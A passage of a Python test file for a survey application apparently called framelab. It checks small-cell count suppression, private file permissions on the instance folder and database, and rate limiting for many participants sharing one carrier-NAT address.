                visible = sum(c.value for c in cells if not c.hidden)
                assert released - visible >= minimum
        # The small stratum's true count never appears as a number.
        left = figures.strata[0]
        assert left.label.startswith("left") and 0 <= counts["left"] < minimum
        assert all(c.hidden or c.value == 0 for c in left.cells)
    # Successive views: one arrival never changes a group count; only whole batches do.
    for (_, before), (_, after), n in zip(views, views[1:], range(1, len(views)), strict=False):
        if (n + 1) % minimum:
            assert _shown(after) == _shown(before), n
    # An observer who reloads after each arrival cannot tell where the `left` arrivals went:
    # the page after each of them is the page before it.
    for n, stratum in enumerate(order):
        if stratum == "left" and n and (n + 1) % minimum:
            assert _shown(views[n][1]) == _shown(views[n - 1][1])


def test_complementary_suppression_hides_a_second_cell_and_enough_of_them():
    assert [c.text for c in protect_counts([40, 3, 25], 10)] == ["40", "hidden", "hidden"]
    assert [c.text for c in protect_counts([40, 3, 2], 10)] == ["hidden"] * 3
    assert [c.text for c in protect_counts([40, 3, 0], 10)] == ["hidden", "hidden", "0"]
    assert [c.text for c in protect_counts([40, 12, 0], 10)] == ["40", "12", "0"]
    # Every table of four cells up to 15 whose total could be shown (0 or at least the
    # minimum): wherever a small cell is hidden, at least two cells are, all reading
    # alike, and they add up to at least the minimum, so the total minus the visible
    # cells leaves at least 10 ways to split among them.
    for cells in itertools.product(range(16), repeat=4):
        total = sum(cells)
        if 0 < total < 10:
            continue
        shown = protect_counts(list(cells), 10)
        hidden = [n for n, c in zip(cells, shown, strict=True) if c.hidden]
        assert {c.text for c in shown if c.hidden} <= {"hidden"}
        if any(0 < n < 10 for n in cells):
            assert len(hidden) >= 2 and sum(hidden) >= 10, (cells, [c.text for c in shown])
        assert all(c.value == n for n, c in zip(cells, shown, strict=True) if not c.hidden)


# ------------------------------------------------------------------ file modes


def test_instance_folder_database_and_secret_files_are_private_on_creation(tmp_path, monkeypatch):
    from framelab.config import secret_key_from_env
    from framelab.db.migrate import upgrade
    from framelab.db.session import make_engine

    instance = tmp_path / "fresh" / "instance"
    monkeypatch.setenv("FRAMELAB_INSTANCE_PATH", str(instance))
    monkeypatch.delenv("FRAMELAB_SECRET_KEY", raising=False)
    secret_key_from_env()
    database = instance / "framelab.sqlite"
    upgrade(f"sqlite:///{database}")
    engine = make_engine(f"sqlite:///{database}")
    with engine.connect() as conn:  # a live connection: the WAL files exist now
        conn.exec_driver_sql("SELECT 1")
        modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in instance.iterdir() if p.is_file()}
    engine.dispose()
    assert stat.S_IMODE(instance.stat().st_mode) == 0o700
    assert {"secret_key", "framelab.sqlite", "framelab.sqlite-wal"} <= set(modes)
    assert all(mode == 0o600 for mode in modes.values()), modes


# ------------------------------------------------------------------ carrier NAT


def test_hundreds_of_participants_behind_one_carrier_address_are_all_enrolled(tmp_path, clock):
    app = make_app(f"sqlite:///{tmp_path / 'nat.sqlite'}", clock=clock, RATELIMIT_ENABLED=True)
    carrier = "100.64.12.34"  # carrier-grade NAT space (RFC 6598): many phones, one address
    try:
        started = time.monotonic()
        statuses = []
        for _ in range(300):
            client = app.test_client()
            client.environ_base["REMOTE_ADDR"] = carrier
            page = client.get(f"/s/{SLUG}?src=sms").get_data(as_text=True)
            response = client.post(
                form_action(page),
                data={"csrf_token": csrf_token(page), "step": "consent", "consent": "yes"},
            )
            statuses.append(response.status_code)
        elapsed = time.monotonic() - started
    finally:
        app.extensions["framelab.engine"].dispose()
    assert elapsed < 60, f"the measurement must fit in the limit's minute ({elapsed:.1f} s)"
    assert statuses.count(429) == 0 and set(statuses) <= {302, 303}, sorted(set(statuses))
